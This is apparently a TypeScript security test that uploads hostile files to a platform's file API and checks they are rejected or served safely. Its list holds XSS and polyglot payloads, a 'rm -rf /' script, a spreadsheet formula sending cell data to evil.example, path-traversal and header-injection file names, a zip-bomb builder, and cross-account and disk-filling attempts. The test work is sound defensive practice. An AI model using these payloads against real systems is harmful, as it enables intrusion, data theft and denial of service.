import { deflateRawSync } from 'node:zlib';
import type { WorkFile } from '@platform/contracts';
import { createUploader, registerMember, uploadFile } from '../support/accounts.ts';
import { countValues, describeProblems, type AttackPart, type Finding } from '../support/attack.ts';
import type { Answer, Client } from '../support/client.ts';

const SCRIPT = '<script>window.attacked="file"</script>';
const PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4nGNgYGD4DwABBAEAX+XDSwAAAABJRU5ErkJggg==',
  'base64',
);
const text = (content: string) => Buffer.from(content);

/** Files that are something else than their name says, more than one thing, or larger than they look. */
const FILES: readonly { readonly name: string; readonly content: Buffer }[] = [
  { name: 'page.html', content: text(`<!doctype html>${SCRIPT}`) },
  { name: 'page.txt', content: text(`<!doctype html>${SCRIPT}`) },
  { name: 'page.md', content: text(`[x](javascript:alert(1)) <img src=x onerror=alert(1)>`) },
  { name: 'page.png', content: text(`<!doctype html>${SCRIPT}`) },
  { name: 'drawing.svg', content: text(`<svg xmlns="http://www.w3.org/2000/svg">${SCRIPT}</svg>`) },
  { name: 'drawing.txt', content: text(`<svg xmlns="http://www.w3.org/2000/svg">${SCRIPT}</svg>`) },
  { name: 'script.txt', content: text('#!/bin/sh\nrm -rf /\n') },
  { name: 'table.csv', content: text('=HYPERLINK("http://evil.example/?"&A1),1\n') },
  { name: 'polyglot.png', content: Buffer.concat([PNG, text(SCRIPT)]) },
  { name: 'polyglot.pdf', content: text(`%PDF-1.7\n${SCRIPT}\n%%EOF`) },
  {
    name: 'polyglot.jpg',
    content: Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), text(`/*${SCRIPT}*/`)]),
  },
  { name: 'polyglot.gif', content: text(`GIF89a/*${SCRIPT}*/=1`) },
  { name: 'bomb.zip', content: createZipBomb() },
  { name: 'bomb.png', content: Buffer.concat([PNG, createZipBomb()]) },
  { name: 'bomb.docx', content: createZipBomb() },
  { name: 'program.txt', content: Buffer.concat([text('MZ'), Buffer.alloc(64), text('PE')]) },
  { name: 'program.exe', content: text('MZ') },
  { name: '../../../etc/cron.d/x.txt', content: text('a path\n') },
  { name: '..\\..\\windows\\x.txt', content: text('a path\n') },
  { name: '/etc/passwd.txt', content: text('a path\n') },
  { name: 'gnp.\u202etxt.exe', content: text('reversed\n') },
  { name: 'a"; filename="b.html.txt', content: text(SCRIPT) },
  { name: "a'*.txt", content: text(SCRIPT) },
  { name: 'a\r\nX-Injected: 1.txt', content: text(SCRIPT) },
  { name: 'page.html\0.txt', content: text(SCRIPT) },
  { name: 'page.html;.txt', content: text(SCRIPT) },
  { name: 'empty.txt', content: Buffer.alloc(0) },
  { name: `${'a'.repeat(5_000)}.txt`, content: text('a long name\n') },
];

/** Uploads hostile files of work tasks, and downloads what was accepted. */
export const hostileFiles: AttackPart = {
  name: 'hostile-files',
  share: 0,
  async run(target) {
    const { client } = await createUploader(target);
    const findings = [await uploadAndDownload(client), await mislabel(client)];
    const stranger = (await registerMember(target)).client;
    return [...findings, await readOthers(client, stranger), await fillDisk(client, stranger)];
  },
};

async function uploadAndDownload(client: Client): Promise<Finding> {
  const problems: string[] = [];
  const statuses: string[] = [];
  for (const { name, content } of FILES) {
    const upload = await uploadFile(client, name, content);
    statuses.push(upload.status === 201 ? 'accepted' : `${upload.status} ${upload.code ?? ''}`);
    if (upload.status >= 500) problems.push(`${name}: ${upload.status}`);
    if (upload.status !== 201) continue;
    const file = JSON.parse(upload.text) as WorkFile;
    problems.push(...checkDownload(file, await client.get(`/api/files/${file.id}`)));
  }
  return {
    attack: 'polyglots, archives, programs and names with paths',
    requests: FILES.length,
    outcome: describeProblems(problems, countValues(statuses)),
    holds: problems.length === 0,
  };
}

/** What was accepted may be saved, but no browser may run it. */
function checkDownload({ name }: WorkFile, { status, headers }: Answer): string[] {
  const disposition = headers['content-disposition'] ?? '';
  const type = headers['content-type'] ?? '';
  return [
    ...(status === 200 ? [] : [`${name}: its download answered ${status}`]),
    ...(disposition.startsWith('attachment;') ? [] : [`${name}: is shown in place`]),
    ...(/filename="[^"]*"; filename\*=UTF-8''[\w.%!#$&+^`|~-]*$/.test(disposition)
      ? []
      : [`${name}: ${disposition}`]),
    ...(/html|xml|svg|script/i.test(type) ? [`${name}: is served as ${type}`] : []),
    ...(headers['x-content-type-options'] === 'nosniff' ? [] : [`${name}: may be sniffed`]),
    ...(/sandbox/.test(String(headers['content-security-policy'])) ? [] : [`${name}: is not sandboxed`]),
    ...(headers['x-injected'] === undefined ? [] : [`${name}: injects a header`]),
    ...(/[/\\]|\p{Cc}|\u202e/u.test(name) ? [`${name}: keeps a dangerous name`] : []),
  ];
}

/** Confuses the type of the request, its length and its compression. */
async function mislabel(client: Client): Promise<Finding> {
  const zeros = Buffer.alloc(11 * 1024 * 1024);
  const answers = await Promise.all([
    uploadFile(client, 'a.txt', text('a'), { 'content-type': 'text/html' }),
    uploadFile(client, 'a.txt', text('a'), { 'content-type': 'multipart/form-data; boundary=x' }),
    uploadFile(client, 'a.txt', text('a'), { 'content-type': 'application/json' }),
    uploadFile(client, 'a.txt', deflateRawSync(zeros), { 'content-encoding': 'deflate' }),
    uploadFile(client, 'a.txt', deflateRawSync(zeros), { 'content-encoding': 'gzip' }),
    uploadFile(client, 'a.txt', text('a'), { 'x-file-name': '%E0%A4%A' }),
    uploadFile(client, 'a.txt', text('a'), { 'x-file-name': 'a'.repeat(9_000) }),
    uploadFile(client, 'large.txt', zeros).catch(() => undefined),
  ]);
  const statuses = answers.map((answer) => answer?.status ?? 0);
  const isRejected = (status: number) => status === 0 || (status >= 400 && status < 500);
  return {
    attack: 'wrong types, compressed and oversized bodies',
    requests: answers.length,
    outcome: countValues(
      answers.map((answer) => (answer ? `${answer.status} ${answer.code ?? ''}` : 'closed')),
    ),
    // A long name is shortened.
    holds: statuses.every((status, index) => isRejected(status) || (index === 6 && status === 201)),
  };
}

async function readOthers(owner: Client, stranger: Client): Promise<Finding> {
  const upload = await uploadFile(owner, 'mine.txt', text('mine'));
  const { id } = JSON.parse(upload.text) as WorkFile;
  const paths = [id, `${id}/`, `${id}%00`, `../files/${id}`, id.toUpperCase(), `${id}?download=1`];
  const answers = await Promise.all(paths.map((path) => stranger.get(`/api/files/${path}`)));
  return {
    attack: 'the file of another member',
    requests: answers.length,
    outcome: countValues(answers.map(({ status }) => status)),
    holds: answers.every(({ status, text: body }) => status >= 400 && !body.includes('mine')),
  };
}

/** An unconfirmed account stores nothing, and a new one no more than its share. */
async function fillDisk(uploader: Client, unconfirmed: Client): Promise<Finding> {
  const content = Buffer.alloc(10 * 1024 * 1024, 'Text. ');
  const codes: string[] = [];
  for (let index = 0; index < 6; index += 1) {
    for (const client of [uploader, unconfirmed]) {
      const { status, code } = await uploadFile(client, 'large.txt', content);
      codes.push(`${client === uploader ? 'new' : 'unconfirmed'} ${code ?? status}`);
    }
  }
  return {
    attack: 'files of 10 MB of a new account and of an unconfirmed one',
    requests: codes.length,
    outcome: countValues(codes),
    holds: !codes.includes('unconfirmed 201') && codes.filter((code) => code === 'new 201').length <= 5,
  };
}

/** A zip archive of some kilobytes whose one entry unpacks to 64 MB. */
function createZipBomb(): Buffer {
  const size = 64 * 1024 * 1024;
  const packed = deflateRawSync(Buffer.alloc(size));
  const header = (signature: string, length: number, at: number) => {
    const bytes = Buffer.alloc(length);
    bytes.write(signature, 'latin1');
    bytes.writeUInt16LE(8, at);
    bytes.writeUInt32LE(packed.length, at + 10);
    bytes.writeUInt32LE(size, at + 14);
    bytes.writeUInt16LE(1, at + 18);
    return bytes;
  };
  const entry = Buffer.concat([header('PK\x03\x04', 30, 8), text('0'), packed]);
  const directory = Buffer.concat([header('PK\x01\x02', 46, 10), text('0')]);
  const end = Buffer.alloc(22);
  end.write('PK\x05\x06', 'latin1');
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(entry.length, 16);
  return Buffer.concat([entry, directory, end]);
}
